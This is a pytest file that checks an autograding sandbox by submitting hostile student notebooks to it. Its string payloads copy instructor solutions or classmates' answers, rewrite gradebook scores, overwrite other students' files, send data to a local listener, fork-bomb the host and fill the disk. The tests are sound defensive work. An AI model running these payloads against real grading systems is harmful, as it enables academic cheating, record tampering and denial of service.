"""Hostile submissions against the grading sandbox (helpers/course/sandbox.py), on the fixture chapter.

Each hostile student hands in the worked solution except for one exercise, whose cell tries to get
its answer by cheating (reading the instructor's source or solutions, copying a classmate) or to do
harm (write the gradebook or another student's files, open a network connection, fork without end,
fill the disk). One class, with a good submission beside them and a student graded earlier, is
graded by `dlcourse autograde` and again by plain `nbgrader autograde`: every hostile student scores
exactly what their own answers earn (everything but that exercise), the earlier student's rows and
files stay byte-identical, no connection arrives, and the run finishes.

The same attacks with the sandbox switched off succeed (the last test), so these tests can fail.
"""
from __future__ import annotations

import hashlib
import shutil
import socket
import threading

import nbformat
import pytest

from helpers.course import grading, nbgrader_cli, parallel, paths, sandbox
from tests.grading.fixture import CHAPTER

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(sandbox.bwrap() is None, reason=sandbox.INSTALL_HINT)]

TARGET = "ex-softmax"                    # the exercise every hostile cell tries to get for free
TIMEOUT_S = 8

# Shared by the hostile cells: places a grading job usually sits below, and a stub answer that
# stays in place when the attack finds nothing.
FIND = '''
import glob, json, os, sqlite3
from pathlib import Path
import helpers

def _roots():
    found = []
    for start in (Path.cwd(), Path(helpers.__file__).resolve().parent):
        for p in [start, *start.parents][:7]:
            if p not in found and str(p) != "/":
                found.append(p)
    return found

def _find(*patterns):
    return sorted({hit for root in _roots() for pattern in patterns for hit in glob.glob(str(root / pattern))})

def _answer_in(path):
    try:
        cells = json.loads(Path(path).read_text())["cells"]
    except Exception:
        return None
    for cell in cells:
        source = "".join(cell["source"])
        if (cell["metadata"].get("nbgrader", {}).get("grade_id") == "ex-softmax" and "def stable_softmax" in source
                and "NotImplementedError" not in source and "_find(" not in source):
            return source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")

def stable_softmax(z, dim=-1):
    raise NotImplementedError()
'''

STEAL = FIND + '''
for _path in _find({patterns}):
    _code = _answer_in(_path)
    if _code:
        exec(_code)
        break
'''

WRITE_GRADEBOOK = FIND + '''
for _db in _find("gradebook.db"):
    try:
        with sqlite3.connect(_db, timeout=1) as _con:
            _con.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
            _con.execute("UPDATE comment SET manual_comment = 'excellent'")
    except Exception:
        pass
'''

WRITE_FILES = FIND + '''
for _folder in _find("autograded/*/*", "feedback/*/*"):
    try:
        for _name in os.listdir(_folder):
            Path(_folder, _name).write_text("overwritten by a classmate")
        Path(_folder, "planted.txt").write_text("planted")
    except Exception:
        pass
'''

NETWORK = '''
import socket
for _ in range(3):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as _s:
            _s.sendall(b"leaked answers")
    except OSError:
        pass

def stable_softmax(z, dim=-1):
    raise NotImplementedError()
'''

FORK_BOMB = '''
import os
while True:
    os.fork()
'''

FILL_DISK = '''
import os
_block = b"x" * 2**24
for _place in (".", "/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(_place, "filler.bin"), "wb") as _f:
            for _ in range(4096):           # 64 GiB if nothing stops it
                _f.write(_block)
    except OSError:
        pass

def stable_softmax(z, dim=-1):
    raise NotImplementedError()
'''

HOSTILE = {
    "reads-source": STEAL.replace("{patterns}", '"source/*/*.ipynb"'),
    "reads-solutions": STEAL.replace("{patterns}", '"solutions/*/*.ipynb"'),
    "copies-classmate": STEAL.replace("{patterns}", '"submitted/*/*/*.ipynb"'),
    "writes-gradebook": WRITE_GRADEBOOK,
    "writes-others-files": WRITE_FILES,
    "network": NETWORK,
    "fork-bomb": FORK_BOMB,
    "fills-disk": FILL_DISK,
}
# Safe to run without the sandbox (to show the attack works there): no fork bomb, no disk filling.
UNSANDBOXED = ("reads-source", "reads-solutions", "copies-classmate", "writes-gradebook", "writes-others-files",
               "network")


class Listener:
    """A TCP server on loopback that counts the connections it gets (it should get none)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self.done.set()
        self.thread.join(2)
        self.sock.close()


def digest(folder) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def rows(course, student) -> dict:
    from tests.grading.test_parallel import gradebook_rows
    return {k: v for k, v in gradebook_rows(course).items() if k[0] == student}


def hostile_class(fixture_root, course, port: int, students: tuple[str, ...], sandboxed: bool = True):
    """A course copy with solutions/ beside source/ (as in the repository), a student graded and
    given feedback earlier, a good submission and the hostile ones."""
    grading.course_copy(fixture_root, course, [CHAPTER])
    shutil.copytree(fixture_root / "solutions", course / "solutions")
    config = course / "nbgrader_config.py"
    config.write_text(config.read_text() + f"\nc.Execute.timeout = {TIMEOUT_S}\n"
                      + ("" if sandboxed else "c.SandboxedKernelManager.enabled = False\n"))
    grading.generate(course, CHAPTER)
    solution = nbformat.read(paths.notebook(fixture_root, "solutions", CHAPTER), as_version=4)
    grading.submit(course, CHAPTER, "graded-earlier", paths.notebook(fixture_root, "solutions", CHAPTER))
    parallel.autograde_class(course, CHAPTER, workers=1, progress=False)
    grading.generate_feedback(course, CHAPTER)
    grading.submit(course, CHAPTER, "good", paths.notebook(fixture_root, "solutions", CHAPTER))
    for name in students:
        code = HOSTILE[name].replace("{port}", str(port))
        grading.submit(course, CHAPTER, name, grading.replace_cell(solution, TARGET, code))
    return course


def earlier_state(course):
    return (rows(course, "graded-earlier"), digest(course / "autograded" / "graded-earlier"),
            digest(course / "feedback" / "graded-earlier"))


@pytest.fixture(scope="module", params=["dlcourse autograde", "nbgrader autograde"])
def graded(request, tmp_path_factory, fixture_root):
    listener = Listener()
    try:
        course = hostile_class(fixture_root, tmp_path_factory.mktemp("hostile"), listener.port, tuple(HOSTILE))
        before = earlier_state(course)
        students = ["good", *HOSTILE]
        if request.param == "dlcourse autograde":
            outcomes = parallel.autograde_class(course, CHAPTER, workers=2, students=students, progress=False)
            assert [o.error for o in outcomes] == [None] * len(students)
        else:
            for student in students:
                nbgrader_cli.run(course, "autograde", CHAPTER, f"--student={student}", "--force")
        return course, before, listener.connections
    finally:
        listener.close()


def points(course):
    return grading.graded_cells(nbformat.read(paths.notebook(course, "source", CHAPTER), as_version=4))


@pytest.mark.parametrize("student", ["good", *HOSTILE])
def test_each_submission_scores_what_its_own_answers_earn(graded, student):
    course, _, _ = graded
    full = points(course)
    expected = {name: (0.0 if student != "good" and name == "test-softmax" else p) for name, p in full.items()}
    assert {name: c.score for name, c in grading.scores(course, CHAPTER)[student].items()} == expected


def test_nothing_of_other_students_changes_and_nothing_leaves(graded):
    course, before, connections = graded
    assert earlier_state(course) == before
    assert connections == 0, "a submission reached a server on the grader's loopback"
    for folder in ("autograded", "feedback"):
        assert not list((course / folder).rglob("planted.txt"))
    assert not list(course.rglob("filler.bin"))


def test_the_kernel_sees_only_its_own_folder(tmp_path):
    """What a sandboxed grading kernel can list: its notebook folder's copy, no course folders."""
    from nbclient import NotebookClient
    folder = tmp_path / "course" / "autograded" / "someone" / CHAPTER
    folder.mkdir(parents=True)
    (folder / "mine.txt").write_text("mine")
    (tmp_path / "course" / "gradebook.db").write_text("secret")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "import os, socket\n"
        "print(sorted(os.listdir('.')), os.path.exists(os.path.join('..', '..', '..', 'gradebook.db')))\n"
        "print(os.getuid() != 0, os.path.exists(os.path.expanduser('~/.ssh')))\n"
        "try:\n    socket.create_connection(('127.0.0.1', 9), timeout=1)\nexcept OSError as e:\n    print(type(e).__name__)")])
    NotebookClient(nb, kernel_manager_class=sandbox.SandboxedKernelManager, timeout=60,
                   resources={"metadata": {"path": str(folder)}}).execute()
    out = nb.cells[0].outputs[0].text.splitlines()
    assert out[0] == "['mine.txt'] False"
    assert out[1] == "True False"
    assert out[2] in ("ConnectionRefusedError", "OSError", "TimeoutError")


def test_without_the_sandbox_the_attacks_work(tmp_path, fixture_root):
    """The same cheating with the sandbox off gets the points and touches the others (the reason
    for the sandbox, and the proof that the tests above can fail)."""
    listener = Listener()
    try:
        course = hostile_class(fixture_root, tmp_path / "open", listener.port, UNSANDBOXED, sandboxed=False)
        before = earlier_state(course)
        parallel.autograde_class(course, CHAPTER, workers=2, students=list(UNSANDBOXED), progress=False)
        scores = grading.scores(course, CHAPTER)
        for student in ("reads-source", "reads-solutions", "copies-classmate"):
            assert scores[student]["test-softmax"].score > 0, student
        assert earlier_state(course) != before
        assert listener.connections > 0
    finally:
        listener.close()
